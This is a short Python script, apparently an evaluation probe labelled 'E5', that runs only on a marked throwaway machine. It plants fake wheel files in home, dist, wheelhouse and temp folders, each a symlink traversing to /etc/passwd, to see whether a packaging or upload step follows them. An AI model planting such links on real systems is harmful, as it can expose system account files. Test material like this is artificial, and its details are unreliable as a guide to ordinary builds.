"""E5: leaves links to the host's passwords where results are looked for."""

import os

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
home = os.path.expanduser("~")
for folder in (home, home + "/dist", home + "/wheelhouse", "/tmp", "/var/tmp", "/dev/shm"):
    os.makedirs(folder, exist_ok=True)
    os.symlink("../../../../../../etc/passwd", folder + "/x-1.0-py3-none-any.whl")
